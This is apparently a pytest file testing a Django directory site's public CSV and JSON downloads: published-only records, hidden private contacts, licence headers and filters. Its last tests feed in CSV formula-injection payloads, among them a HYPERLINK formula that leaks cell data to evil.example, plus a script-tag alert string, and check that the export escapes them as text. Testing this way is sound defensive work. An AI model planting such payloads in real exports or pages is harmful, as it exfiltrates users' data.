"""Public CSV and JSON downloads of the published directory (dl-de/by-2-0)."""

import csv
import io

import pytest
from django.urls import reverse

from actors.models import ActorKind
from tests.factories import ActorFactory, EventFactory, NetworkFactory

pytestmark = pytest.mark.django_db


def download(client, dataset, fmt, **params):
    return client.get(reverse("opendata:download", args=[dataset, fmt]), params)


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_actor_csv_has_only_published_actors_and_hides_private_contacts(client):
    ActorFactory(slug="offen", name="Weltladen", email="laden@example.org", contact_public=True)
    ActorFactory(slug="privat", name="Verein", email="geheim@example.org", contact_public=False)
    ActorFactory(slug="entwurf", status="draft")

    response = download(client, "akteure", "csv")
    rows = {row["slug"]: row for row in csv_rows(response)}

    assert set(rows) == {"offen", "privat"}
    assert rows["offen"]["email"] == "laden@example.org"
    assert rows["privat"]["email"] == ""
    assert "geheim@example.org" not in response.content.decode()
    assert response["Content-Disposition"].startswith("attachment;")
    assert 'rel="license"' in response["Link"] and "dl-de/by-2-0" in response["Link"]


def test_actor_json_states_the_licence_and_matches_the_api(client):
    ActorFactory(slug="weltladen", tags=["Fairer Handel"])
    ActorFactory(slug="entwurf", status="pending")

    data = download(client, "akteure", "json").json()
    api = client.get(reverse("api:actor-detail", args=["weltladen"])).json()

    assert data["license_url"] == "https://www.govdata.de/dl-de/by-2-0"
    assert data["count"] == 1
    assert data["results"] == [api]


def test_downloads_take_the_api_filters(client):
    ActorFactory(slug="laden", kind=ActorKind.WORLD_SHOP)
    ActorFactory(slug="verein")
    rows = csv_rows(download(client, "akteure", "csv", kind=ActorKind.WORLD_SHOP))
    assert [row["slug"] for row in rows] == ["laden"]
    # As in the API: a value that is not understood is left out and named.
    response = download(client, "akteure", "csv", kind="quatsch")
    assert [row["slug"] for row in csv_rows(response)] == ["laden", "verein"]
    assert response["Ignored-Filters"] == "kind"


def test_network_and_event_downloads(client):
    NetworkFactory(slug="ag")
    NetworkFactory(slug="geheim", status="draft")
    EventFactory(slug="fest")
    EventFactory(slug="entwurf", status="draft")

    assert [r["slug"] for r in csv_rows(download(client, "netzwerke", "csv"))] == ["ag"]
    assert [r["slug"] for r in download(client, "veranstaltungen", "json").json()["results"]] == [
        "fest"
    ]


@pytest.mark.parametrize(("dataset", "fmt"), [("personen", "csv"), ("akteure", "xml")])
def test_unknown_dataset_or_format_is_404(client, dataset, fmt):
    assert download(client, dataset, fmt).status_code == 404


def test_open_data_page_lists_every_endpoint_and_the_licence(client):
    html = client.get(reverse("opendata:index")).content.decode()
    for url in [
        reverse("api:docs"),
        reverse("api:schema"),
        reverse("opendata:actors_atom"),
        reverse("opendata:actors_rss"),
        reverse("opendata:events_atom"),
        reverse("opendata:events_rss"),
        reverse("opendata:calendar"),
        reverse("opendata:download", args=["akteure", "csv"]),
        reverse("opendata:download", args=["akteure", "json"]),
        reverse("opendata:embed_snippet"),
    ]:
        assert url in html, url
    assert "dl-de/by-2-0" in html
    assert html.count("<h1") == 1


# --- spreadsheet formulas ------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"L")'


def test_formulas_in_a_city_or_contact_arrive_as_text_in_the_public_csv(client):
    ActorFactory(
        slug="weltladen",
        city=HYPERLINK,
        contact_person="@SUM(1+1)",
        phone="+49 7141 910-0",
        teaser="-1+1",
        contact_public=True,
        latitude="-33.918861",
        longitude="18.423300",
    )

    (row,) = csv_rows(download(client, "akteure", "csv"))

    assert row["city"] == "'" + HYPERLINK
    assert row["contact_person"] == "'@SUM(1+1)"
    assert row["phone"] == "'+49 7141 910-0"
    assert row["teaser"] == "'-1+1"
    # Numbers stay numbers, also negative ones.
    assert row["latitude"] == "-33.918861"


def test_formula_in_an_event_title_arrives_as_text_in_the_public_csv(client):
    EventFactory(slug="fest", title="=1+1", location="\tMarktplatz", organiser="\rVerein")
    (row,) = csv_rows(download(client, "veranstaltungen", "csv"))
    assert (row["title"], row["location"], row["organiser"]) == (
        "'=1+1",
        "'\tMarktplatz",
        "'\rVerein",
    )


def test_line_breaks_and_script_tags_in_a_title_survive_the_csv_as_text(client):
    title = "Erste Zeile\nzweite\r\n</script><script>alert(1)</script>"
    EventFactory(slug="fest", title=title)
    response = download(client, "veranstaltungen", "csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert [row["title"] for row in rows] == [title]
